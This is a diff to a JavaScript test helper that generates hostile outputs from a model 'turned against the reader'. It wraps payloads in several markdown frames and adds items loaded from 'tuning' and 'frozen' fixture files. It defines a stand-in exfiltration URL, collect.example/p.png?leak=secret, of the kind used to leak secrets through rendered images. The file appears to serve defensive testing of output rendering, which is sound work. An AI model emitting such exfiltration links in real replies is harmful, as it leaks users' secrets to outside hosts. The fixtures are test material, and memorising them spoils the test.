@@ -1,5 +1,7 @@
 /** Outputs of a model that someone has turned against the reader: each payload in each frame. */
 
+import { readFile } from "node:fs/promises";
+
 /** A host that is never to be asked for anything, with what an attacker would like to learn. */
 const LEAK = "https://collect.example/p.png?leak=secret";
 
@@ -39,9 +41,28 @@ const FRAMES = [
   (payload) => `\`\`\`html\n${payload}\n\`\`\`\n\n\`${payload}\``,
 ];
 
-/** @returns {{ aim: string, text: string }[]} */
-export function hostileOutputs() {
-  return Object.entries(PAYLOADS).flatMap(([aim, payloads]) =>
+/** @typedef {string | { repeat: { text: string, times: number } }} Piece */
+/** @typedef {{ kind: string, markdown: string | Piece[] }} Item */
+
+/**
+ * Each payload in each frame, and the replies of `tests/fixtures/hostile/`.
+ *
+ * @returns {Promise<{ aim: string, text: string }[]>}
+ */
+export async function hostileOutputs() {
+  const framed = Object.entries(PAYLOADS).flatMap(([aim, payloads]) =>
     payloads.flatMap((payload) => FRAMES.map((frame) => ({ aim, text: frame(payload) }))),
   );
+  const halves = await Promise.all(
+    ["tuning", "frozen"].map((name) => readFile(new URL(`../../fixtures/hostile/${name}.json`, import.meta.url), "utf8")),
+  );
+  /** @type {Item[]} */
+  const items = halves.flatMap((half) => JSON.parse(half));
+  return [...framed, ...items.map(({ kind, markdown }) => ({ aim: `the set's ${kind}`, text: joined(markdown) }))];
+}
+
+/** @param {Item["markdown"]} markdown */
+function joined(markdown) {
+  if (typeof markdown === "string") return markdown;
+  return markdown.map((piece) => (typeof piece === "string" ? piece : piece.repeat.text.repeat(piece.repeat.times))).join("");
 }
